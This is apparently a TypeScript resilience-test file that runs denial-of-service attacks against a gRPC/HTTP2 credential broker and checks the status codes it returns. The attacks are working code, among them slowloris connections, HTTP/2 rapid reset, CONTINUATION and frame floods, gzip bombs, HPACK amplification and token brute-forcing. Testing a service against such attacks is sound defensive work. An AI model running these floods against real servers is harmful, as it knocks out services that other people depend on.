import type { ClientHttp2Session, OutgoingHttpHeaders } from 'node:http2'
import type { Socket } from 'node:net'
import type { TLSSocket } from 'node:tls'
import { gzipSync } from 'node:zlib'
import { brokerService } from '../../src/contract/broker.ts'
import type { AttackStage } from './attack-stage.ts'
import { callHeaders, END_HEADERS, END_STREAM, frame, grpcMessage, headerBlock, PREFACE, TYPE } from './frames.ts'

/** One way to hurt the broker. `run` resolves at the height of the attack; what it opened stays open. */
export interface Attack {
  readonly name: string
  run(stage: AttackStage): Promise<void>
  /** Reasons of which the record must hold one. */
  readonly onRecord?: readonly string[]
}

const SILENT = Number(process.env.STINT_ATTACK_SILENT ?? 600)
const FLOOD_FRAMES = 400_000
const BATCH = 400

export const ATTACKS: readonly Attack[] = [
  {
    name: 'silent TCP connections', // CWE-400; slowloris
    run: async (stage) => {
      const all = Array.from({ length: SILENT }, () => connected(stage.tcp('agents')))
      await Promise.all([...all, ...Array.from({ length: 100 }, () => connected(stage.tcp('bearer')))])
    },
    onRecord: ['unproven'],
  },
  {
    name: 'connections that shake hands and say nothing',
    run: async (stage) => {
      for (let n = 0; n < 60; n++) await stage.tls('agents').catch(() => undefined)
      for (let n = 0; n < 60; n++) await stage.tls('bearer')
    },
    onRecord: ['agent-connections'],
  },
  {
    name: 'requests that are sent by half',
    run: async (stage) => {
      const begun = Array.from({ length: 60 }, (_, n) => begin(1 + 2 * n))
      for (const at of ['agents', 'bearer'] as const) {
        for (let n = 0; n < 10; n++) {
          const socket = await stage.tls(at)
          socket.resume().write(Buffer.concat([PREFACE, ...begun]))
        }
      }
      const session = await stage.http2('agents')
      const halves = [Buffer.alloc(0), grpcMessage(Buffer.alloc(9)).subarray(0, 7)]
      await Promise.all(halves.map((half) => answered(session, callHeaders('PlanTask'), half, ['4'], { end: false })))
    },
    onRecord: ['half-sent'],
  },
  {
    name: 'rapid reset of calls that mint', // CVE-2023-44487
    run: async (stage) => {
      const body = grpcMessage(requestGrantBytes(stage))
      for (let round = 0; round < 3; round++) {
        const socket = await stage.tls('agents')
        const gone = closed(socket)
        socket.resume().write(PREFACE)
        for (let n = 0; n < 1_500 && !socket.destroyed; n++) {
          const id = 1 + 2 * n
          const cancel = frame(TYPE.reset, 0, id, Buffer.from([0, 0, 0, 8]))
          socket.write(Buffer.concat([begin(id), frame(TYPE.data, END_STREAM, id, body), cancel]))
          if (n % 50 === 0) await turn()
        }
        await gone
      }
    },
    // What it leaves on record depends on the speed of the machine; flooded-connection.test.ts and rapid-reset.test.ts hold it.
  },
  {
    name: 'a CONTINUATION flood', // CVE-2024-27983
    run: async (stage) => {
      const socket = await stage.tls('agents')
      const gone = closed(socket)
      socket.resume().write(Buffer.concat([PREFACE, frame(TYPE.headers, 0, 1, headerBlock(callHeaders('PlanTask')))]))
      const more = frame(TYPE.continuation, 0, 1, headerBlock({ 'x-more': 'x'.repeat(8_000) }))
      await flood(socket, more, 2_000)
      await gone
    },
  },
  ...(
    [
      ['PING', frame(TYPE.ping, 0, 0, Buffer.alloc(8))], // CVE-2019-9512
      ['SETTINGS', frame(TYPE.settings, 0, 0)], // CVE-2019-9515
      ['PRIORITY', frame(TYPE.priority, 0, 1, Buffer.from([0, 0, 0, 3, 1]))], // CVE-2019-9513
      ['empty DATA', frame(TYPE.data, 0, 1)], // CVE-2019-9518
      ['RST_STREAM', frame(TYPE.reset, 0, 1, Buffer.from([0, 0, 0, 8]))], // CVE-2019-9514
      ['WINDOW_UPDATE', frame(TYPE.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))], // CVE-2026-21714
    ] as const
  ).map(([kind, one]) => ({
    name: `a flood of ${kind} frames`,
    run: async (stage: AttackStage) => {
      const socket = await stage.tls('bearer')
      const gone = closed(socket)
      socket.resume().write(Buffer.concat([PREFACE, begin(1)]))
      await flood(socket, one, FLOOD_FRAMES)
      await gone
    },
  })),
  {
    name: 'pings whose answers are never read', // CVE-2019-9512
    run: async (stage) => {
      const socket = await stage.tls('agents')
      const gone = closed(socket)
      socket.pause().write(PREFACE)
      await flood(socket, frame(TYPE.ping, 0, 0, Buffer.alloc(8)), FLOOD_FRAMES)
      socket.resume()
      await gone
    },
  },
  {
    name: 'compressed bombs',
    run: async (stage) => {
      const bomb = grpcMessage(gzipSync(Buffer.alloc(60 * 1024 * 1024)), true)
      await calls(stage, 30, bomb, ['8'], { 'grpc-encoding': 'gzip' })
    },
  },
  {
    name: 'messages over 64 KiB',
    run: async (stage) => {
      await calls(stage, 10, grpcMessage(Buffer.alloc(100 * 1024)), ['8'])
      // So much of it that the connection may be cut before all answers are out.
      await calls(stage, 30, grpcMessage(Buffer.alloc(1024 * 1024)), ['8', 'reset'])
    },
  },
  {
    name: 'messages that claim 4 GiB',
    run: (stage) => calls(stage, 30, grpcMessage(Buffer.alloc(10), false, 0xffffffff), ['8']),
  },
  {
    name: 'messages nested deeper than any stack',
    // Groups in groups (wire type 3), and length-delimited fields in each other. 13: cannot be decoded; 3: no task in it.
    run: async (stage) => {
      await calls(stage, 10, grpcMessage(Buffer.alloc(60_000, 0x0b)), ['3', '13'])
      await calls(stage, 10, grpcMessage(nested(15_000)), ['3', '13'])
    },
  },
  {
    name: 'metadata over 8 KiB',
    run: async (stage) => {
      const session = await stage.http2('agents')
      const headers = callHeaders('ListGrants', { 'x-bomb': 'x'.repeat(9_000) })
      for (let n = 0; n < 10; n++) await answered(session, headers, grpcMessage(Buffer.alloc(0)), ['3'])
      session.destroy()
    },
    onRecord: ['metadata'],
  },
  {
    name: 'header blocks that unpack to much more',
    // An entry of the dynamic table, then a reference of one byte to it, 60,000 times. @see RFC 7541, section 7.3
    run: async (stage) => {
      const socket = await stage.tls('bearer')
      const entry = Buffer.concat([Buffer.from([0x40]), headerBlock({ 'x-bomb': 'x'.repeat(3_900) }).subarray(1)])
      const block = Buffer.concat([headerBlock(callHeaders('PlanTask')), entry, Buffer.alloc(12_000, 0xbe)])
      socket.resume().write(PREFACE)
      for (let n = 0; n < 30; n++) socket.write(frame(TYPE.headers, END_HEADERS | END_STREAM, 1 + 2 * n, block))
      await turn()
    },
  },
  {
    name: 'wrong paths',
    run: async (stage) => {
      const paths = [
        '//stint.v1.BrokerService/PlanTask',
        '/stint.v1.BrokerService%2FPlanTask',
        '/',
        '/*',
        '/x'.repeat(2_000),
      ]
      const session = await stage.http2('agents')
      for (const path of paths) await answered(session, callHeaders(path), Buffer.alloc(5), ['12'])
      for (const path of ['stint.v1.BrokerService/PlanTask', '']) {
        await answered(session, { ...callHeaders('/'), ':path': path }, Buffer.alloc(5), ['12', 'reset'])
      }
      session.destroy()
    },
  },
  {
    name: 'no TLS, garbage, and handshakes that fail',
    run: async (stage) => {
      const hello = Buffer.from('16030100050100000100', 'hex')
      for (const at of ['agents', 'bearer'] as const) {
        for (const bytes of [PREFACE, hello, Buffer.alloc(20_000, 0x16), Buffer.from('GET / HTTP/1.1\r\n\r\n')]) {
          for (let n = 0; n < 40; n++) {
            const socket = await connected(stage.tcp(at))
            socket.resume().end(bytes)
          }
        }
      }
    },
    onRecord: ['handshake'],
  },
  {
    name: 'one bad token after the other',
    run: async (stage) => {
      const session = await stage.http2('bearer')
      const seen = new Set<string>()
      const bad = (n: number) =>
        `Bearer ${part({ alg: 'ES256', kid: `k${n}` })}.${part({ sub: 'spiffe://practice.example/x' })}.AAAA`
      // In groups, until the limit is met: on a busy machine one at a time might never come faster than the limit allows.
      for (let n = 0; n < 2_000 && !seen.has('8'); n += 50) {
        const headers = Array.from({ length: 50 }, (_, k) => callHeaders('PlanTask', { authorization: bad(n + k) }))
        const answers = await Promise.all(headers.map((each) => answer(session, each, Buffer.alloc(5))))
        for (const status of answers) seen.add(status)
      }
      session.destroy()
      if (!seen.has('8') || !seen.has('16')) throw new Error(`bad tokens were answered ${[...seen]}`)
    },
    onRecord: ['token-failures'],
  },
  {
    name: 'one agent that asks without end',
    run: async (stage) => {
      const session = await stage.http2('agents')
      const body = grpcMessage(requestGrantBytes(stage))
      const seen = new Set<string>()
      for (let round = 0; round < 15; round++) {
        const asked = Array.from({ length: 80 }, () => answer(session, callHeaders('PlanTask'), body))
        for (const status of await Promise.all(asked)) seen.add(status)
      }
      session.destroy()
      if (!seen.has('8')) throw new Error(`a flood of calls was answered ${[...seen]}`)
    },
    onRecord: ['agent-rate'],
  },
  {
    name: 'watchers that never read',
    run: async (stage) => {
      const watched = grpcMessage(await rogueGrant(stage))
      for (let n = 0; n < 4; n++) {
        const socket = await stage.tls('agents')
        const streams = Array.from({ length: 50 }, (_, k) => {
          const id = 1 + 2 * k
          const block = headerBlock(callHeaders('WatchGrant'))
          return [frame(TYPE.headers, END_HEADERS, id, block), frame(TYPE.data, END_STREAM, id, watched)]
        })
        socket.pause().write(Buffer.concat([PREFACE, ...streams.flat()]))
      }
      await turn()
    },
    onRecord: ['agent-rate'],
  },
]

/** Serialised by the contract itself: what the registered attacker would be granted. */
export function requestGrantBytes(stage: AttackStage): Buffer {
  const { purpose, roleArn, access, ttlSeconds } = stage.task
  const task = { purpose, roleArn, access, ttlSeconds }
  return brokerService.RequestGrant.requestSerialize({ task, idempotencyKey: 'rapid-reset' } as never)
}

async function rogueGrant(stage: AttackStage): Promise<Buffer> {
  const session = await stage.http2('agents')
  const body = grpcMessage(requestGrantBytes(stage))
  const answer = await messageOf(session, callHeaders('RequestGrant'), body)
  session.destroy()
  const grantId = /grt_[0-9A-Z]{26}/.exec(answer.toString('latin1'))?.[0]
  if (!grantId) throw new Error('the attacker got no grant of its own to watch')
  return brokerService.WatchGrant.requestSerialize({ grantId } as never)
}

function begin(id: number): Buffer {
  return frame(TYPE.headers, END_HEADERS, id, headerBlock(callHeaders('RequestGrant')))
}

/** Many calls at once with the same bytes; each must be answered with one of these statuses. */
async function calls(
  stage: AttackStage,
  count: number,
  body: Buffer,
  statuses: readonly string[],
  more: Readonly<Record<string, string>> = {},
): Promise<void> {
  const session = await stage.http2('agents')
  const sent = Array.from({ length: count }, () => answered(session, callHeaders('PlanTask', more), body, statuses))
  await Promise.all(sent)
  session.destroy()
}

async function answered(
  session: ClientHttp2Session,
  headers: OutgoingHttpHeaders,
  body: Buffer,
  statuses: readonly string[],
  { end = true } = {},
): Promise<void> {
  const status = await answer(session, headers, body, end)
  if (!statuses.includes(status)) throw new Error(`${headers[':path']} was answered ${status}, not ${statuses}`)
}

/** @returns the gRPC status, or `reset` when the stream ended without one. */
export function answer(
  session: ClientHttp2Session,
  headers: OutgoingHttpHeaders,
  body: Buffer,
  end = true,
): Promise<string> {
  return new Promise((resolve) => {
    const request = session.request(headers)
    let status = 'reset'
    const note = (answered: Record<string, unknown>) => {
      if (answered['grpc-status'] !== undefined) status = String(answered['grpc-status'])
    }
    request
      .on('response', note)
      .on('trailers', note)
      .on('error', () => undefined)
    request.on('close', () => resolve(status))
    request.on('end', () => request.close())
    request.resume().write(body)
    if (end) request.end()
  })
}

function messageOf(session: ClientHttp2Session, headers: OutgoingHttpHeaders, body: Buffer): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const request = session.request(headers)
    const parts: Buffer[] = []
    request.on('data', (part: Buffer) => parts.push(part)).on('error', reject)
    request.on('end', () => resolve(Buffer.concat(parts)))
    request.end(body)
  })
}

/** Writes the same frame again and again until all are sent or the broker has had enough. */
async function flood(socket: TLSSocket, one: Buffer, frames: number): Promise<void> {
  const batch = Buffer.concat(Array.from({ length: BATCH }, () => one))
  const gone = closed(socket)
  let drained = Promise.withResolvers<void>()
  socket.on('drain', () => drained.resolve())
  for (let sent = 0; sent < frames && !socket.destroyed; sent += BATCH) {
    if (socket.write(batch)) continue
    await Promise.race([drained.promise, gone])
    drained = Promise.withResolvers()
  }
}

function nested(depth: number): Buffer {
  let message = Buffer.alloc(0)
  for (let n = 0; n < depth && message.length < 60_000; n++) {
    const length = message.length
    const size = length < 128 ? [length] : length < 16_384 ? [(length & 127) | 128, length >> 7] : undefined
    const head = Buffer.from([0x0a, ...(size ?? [(length & 127) | 128, ((length >> 7) & 127) | 128, length >> 14])])
    message = Buffer.concat([head, message])
  }
  return message
}

function part(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

function connected(socket: Socket): Promise<Socket> {
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(socket))
    socket.once('close', () => resolve(socket))
  })
}

function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => (socket.destroyed ? resolve() : socket.once('close', () => resolve())))
}

function turn(): Promise<void> {
  return new Promise((resolve) => setImmediate(resolve))
}
